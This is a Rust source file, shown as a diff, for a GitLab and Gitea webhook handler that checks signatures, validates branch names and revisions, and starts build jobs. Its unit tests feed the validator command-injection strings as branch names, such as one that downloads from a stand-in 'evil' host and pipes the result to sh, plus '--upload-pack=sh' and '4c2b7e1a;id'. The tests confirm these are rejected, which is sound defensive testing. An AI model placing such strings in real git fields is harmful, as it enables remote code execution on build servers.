@@ -0,0 +1,594 @@
+use std::sync::{Arc, Mutex};
+
+use bson::{doc, DateTime};
+use hmac::{Hmac, Mac, NewMac};
+use log::info;
+use serde::{Deserialize, Serialize};
+use sha2::Sha256;
+use url::Url;
+use uuid::Uuid;
+
+use crate::{
+    build_params::{AppParams, BuildOverride, BuildParams},
+    config::Config,
+    db::{Db, COLLECTION_TRIGGER},
+    error::AppError,
+    redis::{Redis, BUILD_CHANNEL},
+    utils::const_eq,
+};
+
+pub const HEADER_GITLAB_TOKEN: &str = "X-Gitlab-Token";
+pub const HEADER_GITLAB_EVENT: &str = "X-Gitlab-Event";
+pub const HEADER_GITEA_SIGNATURE: &str = "X-Gitea-Signature";
+pub const HEADER_GITEA_EVENT: &str = "X-Gitea-Event";
+
+/// 删除分支时 push 的 after
+const ZERO_SHA: &str = "0000000000000000000000000000000000000000";
+/// git 允许但会被 shell 解释的字符
+const SHELL_CHARS: &str = "$()`;|&<>'\"!#{}";
+
+#[derive(Debug, Serialize, Deserialize, PartialEq, Clone, Copy)]
+#[serde(rename_all = "snake_case")]
+pub enum HookKind {
+    Push,
+    MergeRequest,
+}
+
+/// 自动打包规则
+#[derive(Debug, Serialize, Deserialize, Clone)]
+pub struct Trigger {
+    pub name: String,
+    /// 仓库地址, ssh 或 http 都可以
+    pub source_url: String,
+    /// 分支, 支持 `release/*` 前缀匹配
+    pub branches: Vec<String>,
+    /// 为空时只响应 push
+    #[serde(default)]
+    pub events: Vec<HookKind>,
+    /// 打包参数模板, 分支和 revision 按 webhook 覆盖
+    pub params: BuildParams,
+    #[serde(default = "default_enable")]
+    pub enable: bool,
+    #[serde(default = "default_date")]
+    pub date: DateTime,
+}
+
+fn default_enable() -> bool {
+    true
+}
+
+fn default_date() -> DateTime {
+    DateTime(chrono::Utc::now())
+}
+
+/// gitlab, gitea 统一后的事件
+#[derive(Debug, PartialEq)]
+pub struct HookEvent {
+    pub kind: HookKind,
+    /// 匹配规则的仓库地址
+    pub urls: Vec<String>,
+    /// 匹配规则的分支, merge request 为目标分支
+    pub branch: String,
+    /// 需要编译的分支, merge request 为源分支
+    pub build_branch: String,
+    pub revision: String,
+}
+
+#[derive(Deserialize, Debug, Default)]
+#[serde(default)]
+struct Repository {
+    git_ssh_url: Option<String>,
+    git_http_url: Option<String>,
+    ssh_url: Option<String>,
+    clone_url: Option<String>,
+}
+
+impl Repository {
+    fn urls(&self) -> Vec<String> {
+        vec![
+            &self.git_ssh_url,
+            &self.git_http_url,
+            &self.ssh_url,
+            &self.clone_url,
+        ]
+        .into_iter()
+        .filter_map(|u| u.clone())
+        .collect()
+    }
+
+    fn keys(&self) -> Vec<String> {
+        self.urls().iter().filter_map(|u| repo_key(u)).collect()
+    }
+
+    /// 是否同一个仓库, fork 的 merge request 源分支在其他仓库
+    fn same_as(&self, other: &Repository) -> bool {
+        let keys = other.keys();
+        self.keys().iter().any(|k| keys.contains(k))
+    }
+}
+
+#[derive(Deserialize, Debug)]
+struct PushPayload {
+    #[serde(rename = "ref")]
+    git_ref: String,
+    after: String,
+    /// gitlab
+    project: Option<Repository>,
+    /// gitea
+    repository: Option<Repository>,
+}
+
+#[derive(Deserialize, Debug)]
+struct GitlabCommit {
+    id: String,
+}
+
+#[derive(Deserialize, Debug)]
+struct GitlabMergeAttributes {
+    action: Option<String>,
+    source_branch: String,
+    target_branch: String,
+    source: Repository,
+    target: Repository,
+    last_commit: GitlabCommit,
+}
+
+#[derive(Deserialize, Debug)]
+struct GitlabMergePayload {
+    object_attributes: GitlabMergeAttributes,
+}
+
+#[derive(Deserialize, Debug)]
+struct GiteaBranch {
+    #[serde(rename = "ref")]
+    git_ref: String,
+    sha: String,
+    repo: Repository,
+}
+
+#[derive(Deserialize, Debug)]
+struct GiteaPull {
+    head: GiteaBranch,
+    base: GiteaBranch,
+}
+
+#[derive(Deserialize, Debug)]
+struct GiteaPullPayload {
+    action: String,
+    pull_request: GiteaPull,
+}
+
+/// 分支名符合 `git check-ref-format` 的规则, 且不含 shell 特殊字符
+fn legal_branch(name: &str) -> bool {
+    !name.is_empty()
+        && !name.starts_with('-')
+        && !name.starts_with('/')
+        && !name.ends_with('/')
+        && !name.ends_with('.')
+        && !name.ends_with(".lock")
+        && !name.contains("..")
+        && !name.contains("//")
+        && !name.contains("@{")
+        && name != "@"
+        && !name.split('/').any(|s| s.starts_with('.'))
+        && name
+            .chars()
+            .all(|c| c.is_ascii_graphic() && !" ~^:?*[\\".contains(c) && !SHELL_CHARS.contains(c))
+}
+
+fn legal_revision(revision: &str) -> bool {
+    (7..=40).contains(&revision.len())
+        && revision
+            .chars()
+            .all(|c| c.is_ascii_digit() || ('a'..='f').contains(&c))
+}
+
+impl HookEvent {
+    /// 分支和 revision 来自推送者, 创建任务前检查
+    pub fn validate(&self) -> Result<(), AppError> {
+        for branch in &[&self.branch, &self.build_branch] {
+            if !legal_branch(branch) {
+                return Err(AppError::Validation(format!("illegal branch {}", branch)));
+            }
+        }
+
+        if !legal_revision(&self.revision) {
+            return Err(AppError::Validation(format!(
+                "illegal revision {}",
+                self.revision
+            )));
+        }
+
+        Ok(())
+    }
+}
+
+fn parse_json<'a, T: Deserialize<'a>>(body: &'a [u8]) -> Result<T, AppError> {
+    serde_json::from_slice::<T>(body).map_err(|e| AppError::Validation(format!("{}", e)))
+}
+
+fn push_event(body: &[u8]) -> Result<Option<HookEvent>, AppError> {
+    let push: PushPayload = parse_json(body)?;
+
+    let branch = match push.git_ref.strip_prefix("refs/heads/") {
+        Some(b) => b.to_string(),
+        // tag 不处理
+        None => return Ok(None),
+    };
+
+    if push.after == ZERO_SHA {
+        return Ok(None);
+    }
+
+    Ok(Some(HookEvent {
+        kind: HookKind::Push,
+        urls: push
+            .project
+            .iter()
+            .chain(push.repository.iter())
+            .flat_map(|r| r.urls())
+            .collect(),
+        branch: branch.clone(),
+        build_branch: branch,
+        revision: push.after,
+    }))
+}
+
+/// 解析 gitlab webhook, 不需要处理的事件返回 None
+pub fn gitlab_event(event: &str, body: &[u8]) -> Result<Option<HookEvent>, AppError> {
+    match event {
+        "Push Hook" => push_event(body),
+        "Merge Request Hook" => {
+            let mr: GitlabMergePayload = parse_json(body)?;
+            let attr = mr.object_attributes;
+
+            match attr.action.as_deref() {
+                Some("open") | Some("reopen") | Some("update") => {}
+                _ => return Ok(None),
+            }
+
+            // 规则的仓库地址只能 clone 目标仓库, fork 的源分支不打包
+            if !attr.source.same_as(&attr.target) {
+                info!("skip merge request from fork {:?}", attr.source.urls());
+                return Ok(None);
+            }
+
+            Ok(Some(HookEvent {
+                kind: HookKind::MergeRequest,
+                urls: attr.target.urls(),
+                branch: attr.target_branch,
+                build_branch: attr.source_branch,
+                revision: attr.last_commit.id,
+            }))
+        }
+        _ => Ok(None),
+    }
+}
+
+/// 解析 gitea webhook, 不需要处理的事件返回 None
+pub fn gitea_event(event: &str, body: &[u8]) -> Result<Option<HookEvent>, AppError> {
+    match event {
+        "push" => push_event(body),
+        "pull_request" => {
+            let pr: GiteaPullPayload = parse_json(body)?;
+
+            match pr.action.as_str() {
+                "opened" | "reopened" | "synchronized" => {}
+                _ => return Ok(None),
+            }
+
+            let pull = pr.pull_request;
+            if !pull.head.repo.same_as(&pull.base.repo) {
+                info!("skip pull request from fork {:?}", pull.head.repo.urls());
+                return Ok(None);
+            }
+
+            Ok(Some(HookEvent {
+                kind: HookKind::MergeRequest,
+                urls: pull.base.repo.urls(),
+                branch: pull.base.git_ref,
+                build_branch: pull.head.git_ref,
+                revision: pull.head.sha,
+            }))
+        }
+        _ => Ok(None),
+    }
+}
+
+fn secret() -> Result<String, AppError> {
+    let secret = Config::hook_secret();
+    if secret.is_empty() {
+        return Err(AppError::Forbidden("webhook not enabled".to_string()));
+    }
+    Ok(secret)
+}
+
+pub fn verify_gitlab(token: Option<&str>) -> Result<(), AppError> {
+    let secret = secret()?;
+
+    match token {
+        Some(t) if const_eq(t.as_bytes(), secret.as_bytes()) => Ok(()),
+        _ => Err(AppError::Unauthorized("invalid webhook token".to_string())),
+    }
+}
+
+pub fn gitea_signature(secret: &str, body: &[u8]) -> String {
+    let mut mac = Hmac::<Sha256>::new_varkey(secret.as_bytes()).unwrap();
+    mac.update(body);
+    hex::encode(mac.finalize().into_bytes())
+}
+
+pub fn verify_gitea(signature: Option<&str>, body: &[u8]) -> Result<(), AppError> {
+    let secret = secret()?;
+    let expect = gitea_signature(&secret, body);
+
+    match signature {
+        Some(s) if const_eq(s.trim().as_bytes(), expect.as_bytes()) => Ok(()),
+        _ => Err(AppError::Unauthorized(
+            "invalid webhook signature".to_string(),
+        )),
+    }
+}
+
+/// 仓库地址统一成 `host/group/project`, 忽略协议, 用户和端口
+pub fn repo_key(url: &str) -> Option<String> {
+    let url = url.trim();
+
+    let (host, path) = match Url::parse(url) {
+        Ok(u) if u.host_str().is_some() => {
+            (u.host_str().unwrap().to_string(), u.path().to_string())
+        }
+        _ => {
+            // scp 格式: git@host:group/project.git
+            let rest = url.splitn(2, '@').last()?;
+            let mut parts = rest.splitn(2, ':');
+            (parts.next()?.to_string(), parts.next()?.to_string())
+        }
+    };
+
+    let path = path.trim_matches('/');
+    let path = path.strip_suffix(".git").unwrap_or(path);
+    if host.is_empty() || path.is_empty() {
+        return None;
+    }
+
+    Some(format!("{}/{}", host, path).to_lowercase())
+}
+
+pub fn branch_match(pattern: &str, branch: &str) -> bool {
+    match pattern.strip_suffix('*') {
+        Some(prefix) => branch.starts_with(prefix),
+        None => pattern == branch,
+    }
+}
+
+impl Trigger {
+    pub fn matches(&self, event: &HookEvent) -> bool {
+        if !self.enable {
+            return false;
+        }
+
+        let kind_match = if self.events.is_empty() {
+            event.kind == HookKind::Push
+        } else {
+            self.events.contains(&event.kind)
+        };
+        if !kind_match {
+            return false;
+        }
+
+        let key = repo_key(&self.source_url);
+        if key.is_none() || !event.urls.iter().any(|u| repo_key(u) == key) {
+            return false;
+        }
+
+        self.branches.iter().any(|b| branch_match(b, &event.branch))
+    }
+
+    pub async fn list() -> Result<Vec<Trigger>, AppError> {
+        let vec: Arc<Mutex<Vec<Trigger>>> = Arc::new(Mutex::new(Vec::new()));
+
+        Db::find(COLLECTION_TRIGGER, doc! {}, None, &|trigger| {
+            vec.lock().unwrap().push(trigger)
+        })
+        .await?;
+
+        let list = vec.lock().unwrap().drain(..).collect::<Vec<Trigger>>();
+        Ok(list)
+    }
+}
+
+/// 按规则创建打包任务, 返回任务 id
+pub async fn trigger_build(event: HookEvent) -> Result<Vec<Uuid>, AppError> {
+    info!("hook event {:?} ...", event);
+    event.validate()?;
+
+    let mut ids = Vec::new();
+    for trigger in Trigger::list().await? {
+        if !trigger.matches(&event) {
+            continue;
+        }
+
+        let mut build_p = trigger.params.clone();
+        BuildOverride {
+            branch: Some(event.build_branch.clone()),
+            revision: Some(event.revision.clone()),
+            ..Default::default()
+        }
+        .apply(&mut build_p);
+
+        let client = format!("hook:{}", trigger.name);
+        let email = build_p.email.clone();
+        let mut app = AppParams::new(build_p, &client, email);
+        app.client = Some(client);
+
+        app.save_db().await?;
+        Redis::publish(BUILD_CHANNEL, &app.build_id.to_string()).await;
+
+        info!("trigger {} build {} ...", trigger.name, app.build_id);
+        ids.push(app.build_id);
+    }
+
+    Ok(ids)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::{
+        branch_match, gitea_event, gitea_signature, gitlab_event, legal_branch, repo_key, HookKind,
+    };
+
+    #[test]
+    fn test_repo_key() {
+        let key = Some("gitlab.justsafe.com/ht5.0/mdm".to_string());
+        assert_eq!(
+            repo_key("ssh://git@gitlab.justsafe.com:8442/ht5.0/mdm.git"),
+            key
+        );
+        assert_eq!(repo_key("git@gitlab.justsafe.com:ht5.0/mdm.git"), key);
+        assert_eq!(repo_key("http://gitlab.justsafe.com/ht5.0/mdm"), key);
+        assert_eq!(repo_key("mdm"), None);
+    }
+
+    #[test]
+    fn test_legal_branch() {
+        assert!(legal_branch("release/5.0"));
+        assert!(legal_branch("feature/login_v2-fix"));
+        assert!(!legal_branch("x;$(curl${IFS}evil|sh)"));
+        assert!(!legal_branch("a`id`"));
+        assert!(!legal_branch("--upload-pack=sh"));
+        assert!(!legal_branch("a..b"));
+        assert!(!legal_branch("a b"));
+        assert!(!legal_branch("release/.hidden"));
+        assert!(!legal_branch("master.lock"));
+    }
+
+    #[test]
+    fn test_branch_match() {
+        assert!(branch_match("release/*", "release/5.0"));
+        assert!(branch_match("master", "master"));
+        assert!(!branch_match("master", "master2"));
+        assert!(!branch_match("release/*", "dev"));
+    }
+
+    #[test]
+    fn test_gitlab_push() {
+        let body = r#"{
+            "ref": "refs/heads/release/5.0",
+            "after": "da1560886d4f094c3e6c9ef40349f7d38b5d27d7",
+            "project": {
+                "git_ssh_url": "git@gitlab.justsafe.com:ht5.0/mdm.git",
+                "git_http_url": "http://gitlab.justsafe.com/ht5.0/mdm.git"
+            }
+        }"#;
+
+        let event = gitlab_event("Push Hook", body.as_bytes()).unwrap().unwrap();
+        assert_eq!(event.kind, HookKind::Push);
+        assert_eq!(event.branch, "release/5.0");
+        assert_eq!(event.revision, "da1560886d4f094c3e6c9ef40349f7d38b5d27d7");
+        assert_eq!(event.urls.len(), 2);
+
+        let tag = body.replace("refs/heads/release/5.0", "refs/tags/v5.0");
+        assert!(gitlab_event("Push Hook", tag.as_bytes()).unwrap().is_none());
+        assert!(gitlab_event("Note Hook", body.as_bytes())
+            .unwrap()
+            .is_none());
+    }
+
+    #[test]
+    fn test_gitlab_merge_request() {
+        let body = r#"{
+            "object_attributes": {
+                "action": "open",
+                "source_branch": "feature/login",
+                "target_branch": "release/5.0",
+                "source": {
+                    "git_ssh_url": "git@gitlab.justsafe.com:ht5.0/mdm.git",
+                    "git_http_url": "http://gitlab.justsafe.com/ht5.0/mdm.git"
+                },
+                "target": {
+                    "git_ssh_url": "git@gitlab.justsafe.com:ht5.0/mdm.git",
+                    "git_http_url": "http://gitlab.justsafe.com/ht5.0/mdm.git"
+                },
+                "last_commit": { "id": "4c2b7e1a" }
+            }
+        }"#;
+
+        let event = gitlab_event("Merge Request Hook", body.as_bytes())
+            .unwrap()
+            .unwrap();
+        assert_eq!(event.kind, HookKind::MergeRequest);
+        assert_eq!(event.branch, "release/5.0");
+        assert_eq!(event.build_branch, "feature/login");
+        assert_eq!(event.urls.len(), 2);
+
+        assert!(event.validate().is_ok());
+
+        // 分支名中的 shell 命令
+        let evil = body.replace("feature/login", "x;$(curl${IFS}evil|sh)");
+        let event = gitlab_event("Merge Request Hook", evil.as_bytes())
+            .unwrap()
+            .unwrap();
+        assert!(event.validate().is_err());
+
+        let evil = body.replace("4c2b7e1a", "4c2b7e1a;id");
+        let event = gitlab_event("Merge Request Hook", evil.as_bytes())
+            .unwrap()
+            .unwrap();
+        assert!(event.validate().is_err());
+
+        // fork 仓库的 merge request
+        let fork = body.replacen("ht5.0/mdm.git", "sunzhiwei/mdm.git", 2);
+        assert!(gitlab_event("Merge Request Hook", fork.as_bytes())
+            .unwrap()
+            .is_none());
+    }
+
+    #[test]
+    fn test_gitea_pull_request() {
+        let body = r#"{
+            "action": "synchronized",
+            "pull_request": {
+                "head": {
+                    "ref": "feature/login",
+                    "sha": "4c2b7e1a",
+                    "repo": { "ssh_url": "git@git.justsafe.com:ht5.0/mdm.git" }
+                },
+                "base": {
+                    "ref": "release/5.0",
+                    "sha": "9a1f0d3c",
+                    "repo": { "clone_url": "https://git.justsafe.com/ht5.0/mdm.git" }
+                }
+            }
+        }"#;
+
+        let event = gitea_event("pull_request", body.as_bytes())
+            .unwrap()
+            .unwrap();
+        assert_eq!(event.kind, HookKind::MergeRequest);
+        assert_eq!(event.branch, "release/5.0");
+        assert_eq!(event.build_branch, "feature/login");
+        assert_eq!(event.revision, "4c2b7e1a");
+
+        let closed = body.replace("synchronized", "closed");
+        assert!(gitea_event("pull_request", closed.as_bytes())
+            .unwrap()
+            .is_none());
+
+        let fork = body.replace(
+            "git@git.justsafe.com:ht5.0/mdm.git",
+            "git@git.justsafe.com:sunzhiwei/mdm.git",
+        );
+        assert!(gitea_event("pull_request", fork.as_bytes())
+            .unwrap()
+            .is_none());
+    }
+
+    #[test]
+    fn test_gitea_signature() {
+        assert_eq!(
+            gitea_signature("secret", b"{}"),
+            "77325902caca812dc259733aacd046b73817372c777b8d95b402647474516e13"
+        );
+    }
+}